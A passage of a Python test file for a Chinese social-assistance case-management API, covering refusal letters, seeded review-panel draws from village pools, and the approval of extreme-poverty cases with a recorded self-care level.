    assert "复核" not in flat
    assert re.findall(r"[A-Za-z]+", flat.replace(case["id"], "")) == []


def test_the_obviously_ineligible_letter_is_chinese_with_one_route_to_reexamination(
        api, db_session):  # 002
    case = create_case(api, db_session)
    economic_check(api, case["id"], result="obviously_ineligible")
    text = pdf_text(api.get("wenping_intake",
                            f"/api/cases/{case['id']}/documents/refusal_letter"))
    assert "家庭经济状况核对结果明显不符合条件" in text
    assert_fit_to_send(text, case)


# --- panel pool and seeded draw (004, 001) ------------------------------------------------------


def pool_members(villagers=26, cadres=3, leaders=1, officers=1):
    return ([{"name": f"村民{i}", "role": "villager"} for i in range(villagers)]
            + [{"name": f"干部{i}", "role": "township_cadre"} for i in range(cadres)]
            + [{"name": f"组长{i}", "role": "group_leader"} for i in range(leaders)]
            + [{"name": f"纪检{i}", "role": "discipline_officer"} for i in range(officers)])


def test_panel_drawn_from_a_pool_of_30_with_a_stored_seed_004(api, db_session):
    case = investigating(api, db_session)
    village = case["jurisdiction_code"]
    small = ok(api.put("wenping_intake", f"/api/villages/{village}/panel-pool",
                       json={"members": pool_members(villagers=24)}))
    assert len(small["items"]) == 29
    version = wf(api, case["id"])["version"]
    problem(api.post("wenping_reviewer", f"/api/cases/{case['id']}/panel-draw", json={},
                     headers={"If-Match": f'"{version}"'}), 422, "panel-pool-too-small")
    ok(api.put("wenping_intake", f"/api/villages/{village}/panel-pool",
               json={"members": pool_members()}))
    panel = ok(api.post("wenping_reviewer", f"/api/cases/{case['id']}/panel-draw", json={},
                        headers={"If-Match": f'"{version}"'}), 201)
    roles_drawn = [m["role"] for m in panel["members"]]
    assert len(roles_drawn) == 9 and roles_drawn.count("township_cadre") >= 2
    assert roles_drawn[0] == "group_leader" and panel["seed"]
    again = ok(api.get("county_supervisor", f"/api/cases/{case['id']}/panel-draw"))
    assert again["redraw_matches"] is True and again["members"] == panel["members"]
    problem(api.put("longtoushan_intake", f"/api/villages/{village}/panel-pool",
                    json={"members": pool_members()}), 404, "jurisdiction-not-found")


def test_special_case_panel_of_12_with_a_discipline_officer_001(api, db_session):
    case = investigating(api, db_session, kind="special_case")
    village = case["jurisdiction_code"]
    ok(api.put("wenping_intake", f"/api/villages/{village}/panel-pool",
               json={"members": pool_members(officers=0, villagers=27)}))
    version = wf(api, case["id"])["version"]
    problem(api.post("wenping_reviewer", f"/api/cases/{case['id']}/panel-draw", json={},
                     headers={"If-Match": f'"{version}"'}), 422, "panel-pool-too-small")
    ok(api.put("wenping_intake", f"/api/villages/{village}/panel-pool",
               json={"members": pool_members()}))
    panel = ok(api.post("wenping_reviewer", f"/api/cases/{case['id']}/panel-draw", json={},
                        headers={"If-Match": f'"{version}"'}), 201)
    assert len(panel["members"]) == 12
    assert "discipline_officer" in [m["role"] for m in panel["members"]]


def test_extreme_poverty_approval_records_the_self_care_level_001_43(api, db_session):
    # The form makes the six items required for an extreme-poverty visit (a visit without
    # them is rejected at push); approval checks them again (tests/unit: the guard) and
    # records the level it rests on.
    from tests.api.test_sync import register_key
    from tests.visit_factory import SELF_CARE_ITEMS, attest, submission, survey_answers

    case = investigating(api, db_session, kind="extreme_poverty")
    pair1, key1 = register_key(api, "wenping_fw1")
    pair2, key2 = register_key(api, "wenping_fw2", device="device-bbbbbbbb")
    unassessed = submission(case, data=survey_answers())
    attest(unassessed, api.user_id("wenping_fw1"), key1, pair1)
    attest(unassessed, api.user_id("wenping_fw2"), key2, pair2)
    assert push(api, [unassessed]).get_json()["results"][0]["status"] == "rejected"
    data = {**survey_answers(), **{item: item != "bathes_alone" for item in SELF_CARE_ITEMS}}
    record = submission(case, data=data)
    attest(record, api.user_id("wenping_fw1"), key1, pair1)
    attest(record, api.user_id("wenping_fw2"), key2, pair2)
    assert push(api, [record]).get_json()["results"][0]["is_complete"] is True
    review = ok(api.get("wenping_reviewer", f"/api/reviews/{record['id']}"))
    ok(api.post("wenping_reviewer", f"/api/reviews/{record['id']}/transitions",
                json={"to": "approved", "comments": []},
                headers={"If-Match": f'"{review["version"]}"'}))
    economic_check(api, case["id"])
    ok(to_reviewing(api, case["id"]))
    ok(move(api, case["id"], "public_notice", "wenping_reviewer"))
    later(days=7)
    draw_and_check(api, case["id"])
    ok(move(api, case["id"], "approved", "wenping_approver"))
    timeline = ok(api.get("wenping_approver", f"/api/cases/{case['id']}/timeline"))["items"]
    assert timeline[-1]["after"]["self_care_level"] == "partly_unable"  # 1 of 6 not done
